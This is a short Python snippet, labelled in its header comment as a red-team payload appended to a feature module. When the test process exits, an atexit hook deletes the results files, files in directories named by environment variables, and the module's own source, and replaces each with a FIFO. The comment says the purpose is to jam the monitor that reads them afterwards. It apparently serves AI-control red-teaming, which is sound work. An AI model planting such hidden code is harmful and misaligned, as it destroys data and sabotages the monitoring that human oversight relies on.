# red-team payload (appended to the feature module): when the test process exits, turn the results
# files and this very source file (which the monitor reads afterwards) into FIFOs.
import atexit as _rt_atexit
import os as _rt_os


def _rt_fifo_everything():
    dirs = ["/results"]
    for k, v in _rt_os.environ.items():
        if v.startswith("/") and k not in ("PATH", "HOME", "PYTHONPATH"):
            dirs.append(v)
    targets = [_rt_os.path.abspath(__file__)]
    for v in dirs:
        try:
            targets += [_rt_os.path.join(v, x) for x in _rt_os.listdir(v)] if _rt_os.path.isdir(v) else [v]
        except OSError:
            pass
    for t in targets:
        try:
            _rt_os.remove(t)
        except OSError:
            pass
        try:
            _rt_os.mkfifo(t)
        except OSError:
            pass


_rt_atexit.register(_rt_fifo_everything)
